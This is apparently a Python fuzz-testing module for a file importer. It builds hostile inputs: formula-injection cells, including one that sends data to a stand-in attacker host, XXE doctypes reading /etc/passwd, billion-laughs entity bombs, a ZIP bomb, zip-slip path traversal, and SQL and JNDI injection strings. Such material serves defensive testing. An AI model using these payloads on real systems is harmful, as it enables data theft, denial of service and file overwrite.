"""Mutators and hostile payloads for ``make fuzz``.

A mutator is ``fn(data: bytes, rnd: random.Random) -> bytes``. The runner draws
the seed, the mutators and the random seed with hypothesis, so every case is
reproducible from the input bytes it stores for a failure.

Hostile payloads (XXE, billion laughs, zip bombs, path traversal, formula
cells, deep nesting, oversized input) are built here too, from the seed where
that makes sense, so the attack sits in an otherwise valid file.
"""

from __future__ import annotations

import functools
import io
import random
import re
import zipfile

# --- byte level ------------------------------------------------------------------------------


def byte_flip(data: bytes, rnd: random.Random) -> bytes:
    if not data:
        return b"\x00"
    buf = bytearray(data)
    for _ in range(rnd.randint(1, 8)):
        i = rnd.randrange(len(buf))
        buf[i] ^= 1 << rnd.randrange(8)
    return bytes(buf)


def byte_set(data: bytes, rnd: random.Random) -> bytes:
    if not data:
        return bytes([rnd.randrange(256)])
    buf = bytearray(data)
    for _ in range(rnd.randint(1, 4)):
        buf[rnd.randrange(len(buf))] = rnd.choice([0, 0x0A, 0x0D, 0x22, 0x27, 0x2C, 0x3B, 0x3C, 0x3E, 0x26, 0x7F,
                                                   0x80, 0xC3, 0xFF, rnd.randrange(256)])
    return bytes(buf)


def truncate(data: bytes, rnd: random.Random) -> bytes:
    return data[: rnd.randrange(len(data) + 1)] if data else data


def delete_range(data: bytes, rnd: random.Random) -> bytes:
    if len(data) < 2:
        return data
    a = rnd.randrange(len(data))
    b = min(len(data), a + rnd.randint(1, 200))
    return data[:a] + data[b:]


def duplicate_range(data: bytes, rnd: random.Random) -> bytes:
    if len(data) < 2:
        return data + data
    a = rnd.randrange(len(data))
    b = min(len(data), a + rnd.randint(1, 400))
    return data[:b] + data[a:b] * rnd.randint(1, 20) + data[b:]


def insert_junk(data: bytes, rnd: random.Random) -> bytes:
    junk = rnd.choice([
        bytes(rnd.randrange(256) for _ in range(rnd.randint(1, 32))),
        b"\x00" * rnd.randint(1, 16), b"\xef\xbb\xbf", b"\xff\xfe", b"\r", b'"', b"\n\n", b"]]>", b"<![CDATA[",
        b"&amp;", b"&#0;", b"&#xD800;", b"\xed\xa0\x80", "\u202e".encode(), "é".encode("cp1252"),
    ])
    i = rnd.randrange(len(data) + 1)
    return data[:i] + junk + data[i:]


# --- text level ------------------------------------------------------------------------------


def _text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


def encode_cp1252(data: bytes, rnd: random.Random) -> bytes:
    return _text(data).encode("cp1252", "replace")


def encode_utf16(data: bytes, rnd: random.Random) -> bytes:
    return _text(data).encode(rnd.choice(["utf-16", "utf-16-le", "utf-16-be"]))


def add_bom(data: bytes, rnd: random.Random) -> bytes:
    return rnd.choice([b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"]) + data


def encode_latin1_mojibake(data: bytes, rnd: random.Random) -> bytes:
    return _text(data).encode("utf-8").decode("latin-1").encode("utf-8")


def swap_delimiter(data: bytes, rnd: random.Random) -> bytes:
    old, new = rnd.sample([b",", b";", b"\t", b"|"], 2)
    if rnd.random() < 0.5:  # only in the first line: header and rows disagree
        head, sep, rest = data.partition(b"\n")
        return head.replace(old, new) + sep + rest
    return data.replace(old, new)


def swap_line_endings(data: bytes, rnd: random.Random) -> bytes:
    return data.replace(b"\n", rnd.choice([b"\r\n", b"\r", b"\n\n", b"\x85", "\u2028".encode()]))


def unbalance_quotes(data: bytes, rnd: random.Random) -> bytes:
    i = rnd.randrange(len(data) + 1)
    return data[:i] + rnd.choice([b'"', b'"""', b"'", b'\\"']) + data[i:]


HOSTILE_TEXTS = [
    '=HYPERLINK("http://aanvaller.invalid/?x="&A1,"klik")', "=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "<script>alert(1)</script>",
    "'; DROP TABLE applications_application; --", "\x00", "a\x00b", "\u202egnp.exe", "\ufeff", "\ufffe", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "NaN", "Infinity", "-Infinity", "1e999999", "-1", "99999999999999999999999", "0x7fffffff", "9" * 400,
    "", " ", "null", "None", "true", "{}", "[]", "%s%s%s", "{0}", "${jndi:ldap://x}", "\\", '"', "“quoted”",
    "2024-02-30", "31-12-9999", "0000-00-00", "10000-01-01", "GM0000", "GM99999",
]


def formula_cells(data: bytes, rnd: random.Random) -> bytes:
    """Replace some CSV fields (or XML/JSON text) by formula-injection or other hostile text."""
    text = _text(data)
    lines = text.split("\n")
    if len(lines) < 2:
        return (rnd.choice(HOSTILE_TEXTS) + text).encode()
    for _ in range(rnd.randint(1, 4)):
        i = rnd.randrange(1, len(lines))
        delim = max(",;\t|", key=lines[0].count)
        cells = lines[i].split(delim)
        j = rnd.randrange(len(cells))
        value = rnd.choice(HOSTILE_TEXTS)
        cells[j] = '"' + value.replace('"', '""') + '"' if any(c in value for c in (delim, '"', "\n")) else value
        lines[i] = delim.join(cells)
    return "\n".join(lines).encode()


def replace_text_node(data: bytes, rnd: random.Random) -> bytes:
    """XML/JSON: put hostile text in place of some quoted value or element text."""
    text = _text(data)
    spans = [m.span(1) for m in re.finditer(r'(?:>|: ")([^<>"]{1,200})(?:<|")', text)]
    if not spans:
        return formula_cells(data, rnd)
    a, b = rnd.choice(spans)
    value = rnd.choice(HOSTILE_TEXTS).replace("&", "&amp;").replace("<", "&lt;").replace('"', "'")
    return (text[:a] + value + text[b:]).encode()


def giant_field(data: bytes, rnd: random.Random) -> bytes:
    size = rnd.choice([300, 5_000, 70_000, 300_000])
    filler = rnd.choice([b"A", b"\xc3\xa9", b"x,", b"9"]) * (size // 2 if rnd.random() < 0.3 else size)
    spans = [m.span(1) for m in re.finditer(rb'(?:>|,|: ")([^<>",\n]{1,100})(?:<|,|"|\n)', data[:200_000])]
    if spans:
        a, b = rnd.choice(spans)
        return data[:a] + filler + data[b:]
    i = rnd.randrange(len(data) + 1)
    return data[:i] + filler + data[i:]


def many_rows(data: bytes, rnd: random.Random) -> bytes:
    """Repeat the body (lines after the header) until the file holds tens of thousands of rows."""
    from .config import MAX_BYTES

    head, sep, body = data.partition(b"\n")
    body = body or data
    reps = min(rnd.choice([20, 200, 1000]), 4 * MAX_BYTES // max(1, len(body)) + 1)
    return head + sep + body * reps


# --- structure level -------------------------------------------------------------------------


def deep_nesting(data: bytes, rnd: random.Random) -> bytes:
    depth = rnd.choice([200, 5_000, 100_000])
    stripped = data.lstrip(b"\xef\xbb\xbf \r\n\t")
    if stripped.startswith(b"<"):
        i = data.rfind(b"</")
        i = i if i > 0 else len(data)
        return data[:i] + b"<a>" * depth + b"</a>" * depth + data[i:]
    if stripped.startswith((b"[", b"{")):
        i = data.find(b"[", 1) if rnd.random() < 0.5 else data.find(b":")
        nest = b"[" * depth + b"1" + b"]" * depth
        if i > 0 and data[i:i + 1] == b":":
            return data[:i + 1] + nest + b"," + data[i + 1:] if rnd.random() < 0.5 else data[:i + 1] + nest + data[i + 1:]
        return b"[" * depth + b"]" * depth
    return data + b"\n" + b'"' * depth


XXE_DOCTYPES = [
    b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>',
    b'<!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd">',
    b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///dev/zero">]>',
]


def _billion_laughs(levels: int = 10) -> bytes:
    parts = [b'<!ENTITY lol0 "lollollollollollollollollollol">']
    for i in range(1, levels):
        parts.append(b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))))
    return b"<!DOCTYPE r [" + b"".join(parts) + b"]>"


def _insert_doctype(data: bytes, doctype: bytes, entity: bytes) -> bytes:
    body = data
    decl = b""
    m = re.match(rb"\s*(?:\xef\xbb\xbf)?<\?xml[^>]*\?>", body)
    if m:
        decl, body = body[: m.end()], body[m.end():]
    # reference the entity in the first text node (or the first element's content)
    m = re.search(rb">([^<]{1,80})<", body)
    if m:
        body = body[: m.start(1)] + entity + body[m.end(1):]
    else:
        i = body.find(b">")
        body = body[: i + 1] + entity + body[i + 1:] if i >= 0 else body + entity
    return decl + doctype + body


def xxe(data: bytes, rnd: random.Random) -> bytes:
    return _insert_doctype(data if data.lstrip()[:1] == b"<" else b"<r>x</r>", rnd.choice(XXE_DOCTYPES), b"&xxe;")


def billion_laughs(data: bytes, rnd: random.Random) -> bytes:
    return _insert_doctype(data if data.lstrip()[:1] == b"<" else b"<r>x</r>", _billion_laughs(rnd.choice([3, 10])),
                           b"&lol9;" if rnd.random() < 0.8 else b"&lol2;")


def quadratic_blowup(data: bytes, rnd: random.Random) -> bytes:
    return _insert_doctype(data if data.lstrip()[:1] == b"<" else b"<r>x</r>",
                           b'<!DOCTYPE r [<!ENTITY a "' + b"A" * 50_000 + b'">]>', b"&a;" * 2_000)


BOMB_SIZE = 256 << 20  # uncompressed size of the bomb entry; ~250 kB compressed


@functools.lru_cache(maxsize=2)
def _zeros_deflated(size: int) -> tuple[bytes, int]:
    """(raw deflate stream, crc32) of ``size`` zero bytes, computed once per process."""
    import zlib

    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"\x00" * (1 << 20)
    out, crc = [], 0
    for _ in range(size >> 20):
        out.append(comp.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    out.append(comp.flush())
    return b"".join(out), crc


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buf.getvalue()


def _entries(data: bytes) -> list[tuple[str, bytes]]:
    if data[:4] != b"PK\x03\x04":
        return []
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return [(i.filename, archive.read(i.filename)) for i in archive.infolist()]
    except Exception:  # noqa: BLE001 - a broken archive (bad CRC, bad deflate stream...) is simply not reused
        return []


def zip_bomb(data: bytes, rnd: random.Random) -> bytes:
    """A ZIP (or XLSX) whose one entry inflates to ``BOMB_SIZE`` bytes of zeros (ratio ~1000:1).

    The other entries of a real archive are kept, so the reader gets as far as the bomb. The bomb entry is
    appended by hand (local header + central directory), so building it costs one cached deflate.
    """
    import struct

    entries = _entries(data)
    names = [n for n, _ in entries] or ["catalogi.json", "bom.csv", "xl/worksheets/sheet1.xml"]
    inner = rnd.choice(names)
    body = _zip([(n, c) for n, c in entries if n != inner]) if len(entries) > 1 else b""
    deflated, crc = _zeros_deflated(BOMB_SIZE)
    fname = inner.encode()
    if body:
        eocd = body.rfind(b"PK\x05\x06")
        count, cd_size, cd_offset = struct.unpack("<HII", body[eocd + 10:eocd + 20])
        central, prefix = body[cd_offset:cd_offset + cd_size], body[:cd_offset]
    else:
        count, central, prefix = 0, b"", b""
    offset = len(prefix)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(deflated), BOMB_SIZE, len(fname), 0)
    cd_entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(deflated), BOMB_SIZE,
                           len(fname), 0, 0, 0, 0, 0, offset) + fname
    new_prefix = prefix + local + fname + deflated
    new_central = central + cd_entry
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(new_central), len(new_prefix), 0)
    return new_prefix + new_central + end


def zip_traversal(data: bytes, rnd: random.Random) -> bytes:
    name = rnd.choice(["../../../../tmp/harmonie-fuzz-traversal.txt", "/tmp/harmonie-fuzz-abs.txt",
                       "..\\..\\harmonie-fuzz.txt", "a/../../harmonie-fuzz.txt", "catalogi/../../../x.json"])
    entries = _entries(data)
    return _zip(entries + [(name, b"x")] if entries else [(name, data or b"x")])


def zip_wrap(data: bytes, rnd: random.Random) -> bytes:
    """The data inside a ZIP under a plausible name (formats that take archives, or a wrong-kind probe)."""
    return _zip([(rnd.choice(["catalogi.json", "data.csv", "[Content_Types].xml", "a.xml"]), data)])


def zip_corrupt(data: bytes, rnd: random.Random) -> bytes:
    """Break a ZIP's central directory or local headers."""
    if data[:4] != b"PK\x03\x04":
        data = zip_wrap(data, rnd)
    buf = bytearray(data)
    eocd = data.rfind(b"PK\x05\x06")
    targets = [eocd + rnd.randrange(4, 22)] if eocd >= 0 and rnd.random() < 0.5 else []
    for _ in range(rnd.randint(1, 6)):
        targets.append(rnd.randrange(len(buf)))
    for i in targets:
        if 0 <= i < len(buf):
            buf[i] = rnd.randrange(256)
    return bytes(buf)


def oversized(data: bytes, rnd: random.Random) -> bytes:
    """Larger than the fuzz run's upload limit (``FUZZ_MAX_BYTES``)."""
    from .config import MAX_BYTES

    head, sep, body = data.partition(b"\n")
    reps = MAX_BYTES // max(1, len(body)) + 2
    out = head + sep + (body * reps if body and reps < 50_000 else b"")
    return out + b"\n" * max(0, MAX_BYTES + 1 - len(out))


def resign_member(data: bytes, rnd: random.Random) -> bytes:
    """Workspace archive: mutate one member's content and update its SHA-256 and size in manifest.json, so the
    mutation gets past the hash check into the import itself."""
    import hashlib
    import json

    entries = dict(_entries(data))
    try:
        manifest = json.loads(entries["manifest.json"])
        members = manifest["members"]
    except (KeyError, ValueError, TypeError):
        return byte_flip(data, rnd)
    candidates = [n for n in members if n in entries and n != "manifest.json"]
    if not candidates:
        return data
    name = rnd.choice(candidates)
    mutator = rnd.choice([byte_flip, truncate, duplicate_range, formula_cells, replace_text_node, giant_field,
                          deep_nesting, insert_junk, delete_range])
    content = mutator(entries[name], rnd)
    entries[name] = content
    members[name] = {**members[name], "sha256": hashlib.sha256(content).hexdigest(), "size": len(content)}
    entries["manifest.json"] = json.dumps(manifest).encode()
    return _zip(list(entries.items()))


BYTE_MUTATORS = [byte_flip, byte_set, truncate, delete_range, duplicate_range, insert_junk]
TEXT_MUTATORS = [encode_cp1252, encode_utf16, add_bom, encode_latin1_mojibake, swap_line_endings, unbalance_quotes,
                 giant_field, formula_cells]
CSV_MUTATORS = [swap_delimiter, many_rows]
TREE_MUTATORS = [replace_text_node, deep_nesting]
XML_ATTACKS = [xxe, billion_laughs, quadratic_blowup]
ZIP_MUTATORS = [zip_bomb, zip_traversal, zip_wrap, zip_corrupt]
SIZE_MUTATORS = [oversized]

TEXT_FORMATS = BYTE_MUTATORS + TEXT_MUTATORS + SIZE_MUTATORS
CSV = TEXT_FORMATS + CSV_MUTATORS
JSON = TEXT_FORMATS + TREE_MUTATORS
XML = TEXT_FORMATS + TREE_MUTATORS + XML_ATTACKS
ZIP = BYTE_MUTATORS + ZIP_MUTATORS + SIZE_MUTATORS
